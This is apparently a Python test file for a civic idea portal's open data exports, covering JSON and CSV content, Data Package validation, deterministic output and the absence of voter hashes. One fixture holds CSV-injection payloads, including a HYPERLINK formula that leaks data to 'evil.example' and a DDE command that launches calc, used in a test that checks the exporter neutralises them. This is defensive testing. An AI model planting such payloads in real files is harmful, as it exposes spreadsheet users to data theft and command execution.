"""Open data exports: content, determinism, the Data Package, and no voter hashes."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from pathlib import Path
from typing import Annotated, Any

import frictionless
import pytest

from generator.duty import response_duty
from generator.exports import DATA_LICENSE, _fields, _idea_row, neutralise, write_exports
from generator.feeds import write_feeds
from generator.models import Answer, CommunityAnswer, Export, Idea, columns
from generator.portal import Portal
from generator.schema import schema_text, schemas
from tests.support import TODAY, PortalDir, built

ROOT = Path(__file__).resolve().parents[1]
HEX16 = re.compile(r"(?<![0-9a-f])[0-9a-f]{16}(?![0-9a-f])")


@pytest.fixture(scope="module")
def demo_data(demo_portal: Portal, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("site") / "data"
    write_exports(demo_portal, out, site_url=None, today=TODAY)
    return out


def load(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_files_written_and_returned(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    written = write_exports(built(portal), out, site_url=None, today=TODAY)
    names = [p.relative_to(out).as_posix() for p in written]
    assert names == [
        "ideas.json",
        "ideas.csv",
        "answers.json",
        "votes.csv",
        "community.csv",
        *(f"schemas/{name}" for name in sorted(schemas())),
        "datapackage.json",
    ]
    assert sorted(names) == sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())


def test_ideas_json_of_the_fixture(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    assert load(out / "ideas.json") == [
        {
            "id": "2026-0001",
            "url": "ideas/2026-0001/",
            "title": "A safe bike lane on Harbour Road",
            "kind": "idea",
            "status": "planned",
            "status_label_en": "Planned",
            "category": "traffic",
            "department": "roads",
            "submitted": "2026-01-10",
            "channel": "web",
            "author": "Maja H.",
            "language": None,
            "summary": None,
            "location": None,
            "tags": [],
            "support": 6,
            "supporters": 2,
            "tallied": 4,
            "answers_count": 2,
            "first_answer_date": "2026-01-20",
            "latest_answer_date": "2026-03-01",
            "due_date": "2026-02-14",
            "answered_in_time": True,
            "duplicate_of": None,
            "community_count": 0,
            "withheld_reason": None,
            "withheld_date": None,
        },
        {
            "id": "2026-0002",
            "url": "ideas/2026-0002/",
            "title": "When does the library open on Sundays?",
            "kind": "question",
            "status": "new",
            "status_label_en": "New",
            "category": "culture",
            "department": None,
            "submitted": "2026-02-01",
            "channel": "email",
            "author": "Erik",
            "language": None,
            "summary": None,
            "location": None,
            "tags": [],
            "support": 0,
            "supporters": 0,
            "tallied": 0,
            "answers_count": 0,
            "first_answer_date": None,
            "latest_answer_date": None,
            "due_date": None,
            "answered_in_time": None,
            "duplicate_of": None,
            "community_count": 0,
            "withheld_reason": None,
            "withheld_date": None,
        },
    ]


def test_overdue_is_not_in_time_and_absolute_urls(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    (portal.root / "content/answers/2026-0001.yaml").unlink()
    write_exports(built(portal), out, site_url="https://ideas.example.org/portal", today=TODAY)
    first = load(out / "ideas.json")[0]
    assert first["url"] == "https://ideas.example.org/portal/ideas/2026-0001/"
    assert (first["due_date"], first["answered_in_time"]) == ("2026-02-14", False)
    assert load(out / "datapackage.json")["homepage"] == "https://ideas.example.org/portal"


def test_ideas_csv_matches_ideas_json(demo_data: Path) -> None:
    def cell(value: object) -> str:
        if isinstance(value, list):
            return neutralise(";".join(value))
        if isinstance(value, bool):
            return str(value).lower()
        if isinstance(value, int | float):
            return str(value)
        return "" if value is None else neutralise(str(value))

    ideas = load(demo_data / "ideas.json")
    table = rows(demo_data / "ideas.csv")
    assert [{key: cell(value) for key, value in idea.items()} for idea in ideas] == table
    fields = load(demo_data / "datapackage.json")["resources"][0]["schema"]["fields"]
    assert list(table[0]) == [field["name"] for field in fields]


def test_every_demo_idea_exactly_once(demo_portal: Portal, demo_data: Path) -> None:
    ids = sorted(demo_portal.records)
    assert [idea["id"] for idea in load(demo_data / "ideas.json")] == ids
    assert [row["id"] for row in rows(demo_data / "ideas.csv")] == ids


def test_due_dates_follow_the_duty_rule(demo_portal: Portal, demo_data: Path) -> None:
    exported = {idea["id"]: idea for idea in load(demo_data / "ideas.json")}
    for key, record in demo_portal.records.items():
        duty = response_duty(record, demo_portal.settings, TODAY)
        assert exported[key]["due_date"] == (duty.due.isoformat() if duty else None)
        assert exported[key]["answered_in_time"] == (
            None if duty is None or duty.state == "due" else duty.state == "met"
        ), key
    assert {True, False} <= {idea["answered_in_time"] for idea in exported.values()}


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "=1+2",
}


@pytest.mark.parametrize("summary", ["=1+2", "-1+1", "+1+1", "@A1"])
def test_csv_cells_that_start_like_a_formula_are_neutralised(portal: PortalDir, tmp_path: Path, summary: str) -> None:
    idea = (
        f"title: {json.dumps(FORMULAS['title'])}\nkind: idea\nsubmitted: 2026-01-10\n"
        f"author: {json.dumps(FORMULAS['author'])}\ncategory: traffic\nchannel: web\n"
        f"summary: {json.dumps(summary)}\nbody: Some text.\n"
    )
    portal.write("content/ideas/2026-0001.yaml", idea)
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    row = rows(out / "ideas.csv")[0]
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["author"] == "'" + FORMULAS["author"]
    assert row["summary"] == "'" + summary
    # Numbers stay numbers, and the JSON keeps every text exactly as written.
    assert row["supporters"].isdigit()
    first = load(out / "ideas.json")[0]
    assert (first["title"], first["author"], first["summary"]) == (FORMULAS["title"], FORMULAS["author"], summary)


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("A safe bike lane") == "A safe bike lane"
    assert neutralise("2026-01-10") == "2026-01-10"
    assert neutralise("a=b") == "a=b"
    assert neutralise("") == ""
    # The validator refuses control characters in one-line fields; the CSV does not rely on it.
    assert neutralise("\tx") == "'\tx"
    assert neutralise("\r=1") == "'\r=1"


def test_answers_json(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    answers = load(out / "answers.json")
    assert [(a["idea_id"], a["index"], a["date"], a["status"]) for a in answers] == [
        ("2026-0001", 1, "2026-01-20", "under_review"),
        ("2026-0001", 2, "2026-03-01", "planned"),
    ]
    assert answers[1] == {
        "idea_id": "2026-0001",
        "index": 2,
        "date": "2026-03-01",
        "status": "planned",
        "department": "roads",
        "signed": "Ann Berg, Head of Roads",
        "body": "The lane is planned for 2027.\n",
        "duplicate_of": None,
        "reopen": False,
    }


def test_demo_answers_in_idea_then_index_order(demo_portal: Portal, demo_data: Path) -> None:
    answers = load(demo_data / "answers.json")
    assert [(a["idea_id"], a["index"]) for a in answers] == [
        (key, n) for key in sorted(demo_portal.records) for n in range(1, len(demo_portal.records[key].answers) + 1)
    ]
    assert any(a["reopen"] for a in answers)
    assert any(a["duplicate_of"] for a in answers)


def test_votes_csv_is_daily_counts(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    assert (out / "votes.csv").read_text(encoding="utf-8") == (
        "idea_id,date,supporters,tallied,cumulative\n"
        "2026-0001,2026-01-11,1,0,1\n"
        "2026-0001,2026-01-12,1,0,2\n"
        "2026-0001,2026-01-15,0,4,6\n"
    )


def test_demo_votes_add_up(demo_portal: Portal, demo_data: Path) -> None:
    last: dict[str, int] = {}
    for row in rows(demo_data / "votes.csv"):
        last[row["idea_id"]] = int(row["cumulative"])
    assert last == {key: r.support for key, r in demo_portal.records.items() if r.support}


def test_schemas_are_copied(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    for name, schema in schemas().items():
        assert (out / "schemas" / name).read_text(encoding="utf-8") == schema_text(schema)


def test_data_package_is_valid_for_the_demo(demo_data: Path) -> None:
    report = frictionless.validate(demo_data / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:20]
    package = load(demo_data / "datapackage.json")
    assert package["licenses"] == [DATA_LICENSE]
    assert package["sources"] == [
        {"title": "Content repository", "path": "https://github.com/fjordby-example/idea-portal"}
    ]
    resources = {r["name"]: r for r in package["resources"]}
    assert {r["path"] for r in resources.values()} == {
        "ideas.csv",
        "votes.csv",
        "community.csv",
        "ideas.json",
        "answers.json",
    }
    assert resources["votes"]["schema"]["foreignKeys"][0]["reference"] == {"resource": "ideas", "fields": ["id"]}


def test_data_package_schema_has_teeth(portal: PortalDir, tmp_path: Path) -> None:
    out = tmp_path / "data"
    write_exports(built(portal), out, site_url=None, today=TODAY)
    assert frictionless.validate(out / "datapackage.json").valid
    votes = out / "votes.csv"
    votes.write_text(votes.read_text(encoding="utf-8").replace("2026-0001,2026-01-15", "2026-0009,2026-01-15"))
    report = frictionless.validate(out / "datapackage.json")
    assert not report.valid
    assert "foreign-key" in {error.type for task in report.tasks for error in task.errors}


def test_output_is_deterministic_utf8_with_unix_line_endings(
    demo_portal: Portal, demo_data: Path, tmp_path: Path
) -> None:
    write_exports(demo_portal, tmp_path, site_url=None, today=TODAY)
    for path in demo_data.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert data == (tmp_path / path.relative_to(demo_data)).read_bytes(), path
            assert b"\r" not in data, path
            assert data.endswith(b"\n"), path
            data.decode("utf-8")
    text = (demo_data / "ideas.json").read_text(encoding="utf-8")
    assert "\\u00" not in text  # written as UTF-8, not escaped
    first = load(demo_data / "ideas.json")[0]
    assert list(first) == sorted(first)


def test_no_voter_hash_anywhere(demo_portal: Portal, tmp_path: Path) -> None:
    write_exports(demo_portal, tmp_path / "data", site_url=None, today=TODAY)
    write_feeds(demo_portal, tmp_path, site_url=None, language="da", updated=dt.datetime(2026, 11, 23, tzinfo=dt.UTC))
    voters = {s.voter for r in demo_portal.records.values() for s in r.supporters}
    assert len(voters) > 100
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert len(files) > len(demo_portal.records)
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert not HEX16.findall(text), path
        assert not any(voter in text for voter in voters), path


# --- the columns come from the models' `Export` annotations ---


def test_columns_are_the_ones_the_models_declare(demo_portal: Portal, demo_data: Path) -> None:
    resources = {r["name"]: r for r in load(demo_data / "datapackage.json")["resources"]}
    ideas = {field["name"]: field for field in resources["ideas"]["schema"]["fields"]}
    for column in columns(Idea):
        assert ideas[column.name]["type"] == column.kind
        assert ideas[column.name]["description"] == column.export.description
        assert ideas[column.name].get("constraints", {}).get("required", False) == column.required
    assert ideas["category"]["constraints"]["enum"] == sorted(demo_portal.categories)
    with (demo_data / "ideas.csv").open(encoding="utf-8") as file:
        assert next(csv.reader(file)) == list(ideas)
    community = [field["name"] for field in resources["community"]["schema"]["fields"]]
    assert community == ["idea_id", "index", *(c.name for c in columns(CommunityAnswer))]
    with (demo_data / "community.csv").open(encoding="utf-8") as file:
        assert next(csv.reader(file)) == community
    answers = load(demo_data / "answers.json")
    assert answers
    assert all(set(row) == {"idea_id", "index", *(c.name for c in columns(Answer))} for row in answers)


class _WardIdea(Idea):
    """An idea with one more field, declared on the model only."""

    ward: Annotated[str | None, Export("City ward.")] = None


def test_a_field_declared_on_the_idea_model_becomes_the_last_column(portal: PortalDir) -> None:
    built_portal = built(portal)
    record = built_portal.records["2026-0001"]
    record.idea = _WardIdea.model_validate({**record.idea.model_dump(), "ward": "North"})
    fields = _fields(built_portal, _WardIdea)
    assert [f["name"] for f in fields[:-1]] == [f["name"] for f in _fields(built_portal, Idea)]
    assert fields[-1] == {"name": "ward", "type": "string", "description": "City ward."}
    row = _idea_row(record, built_portal, None, TODAY)
    assert row["ward"] == "North"
    assert row["title"] == "A safe bike lane on Harbour Road"


def _documented_columns() -> dict[str, list[str]]:
    """The column names each `### \\`file\\`` section of docs/open-data.md lists in its table, in order."""
    documented: dict[str, list[str]] = {}
    section = ""
    for line in (ROOT / "docs" / "open-data.md").read_text(encoding="utf-8").splitlines():
        if line.startswith("#"):
            section = line
        elif line.startswith("| `") and section:
            documented.setdefault(section, []).append(line.split("`")[1])
    return documented


def test_the_open_data_docs_list_every_column_in_order(demo_data: Path) -> None:
    """A field marked `Export` on a model is a new column: docs/open-data.md must say what it holds."""
    documented = _documented_columns()
    for section, name in (("### `ideas.json` and `ideas.csv`", "ideas.csv"), ("### `community.csv`", "community.csv")):
        with (demo_data / name).open(encoding="utf-8", newline="") as file:
            assert documented[section] == next(csv.reader(file)), name
    with (demo_data / "votes.csv").open(encoding="utf-8", newline="") as file:
        assert documented["### `votes.csv`"] == next(csv.reader(file))
    # The JSON files write their keys sorted; the docs follow the CSV's order.
    assert sorted(documented["### `ideas.json` and `ideas.csv`"]) == sorted(load(demo_data / "ideas.json")[0])
    assert sorted(documented["### `answers.json`"]) == sorted(load(demo_data / "answers.json")[0])
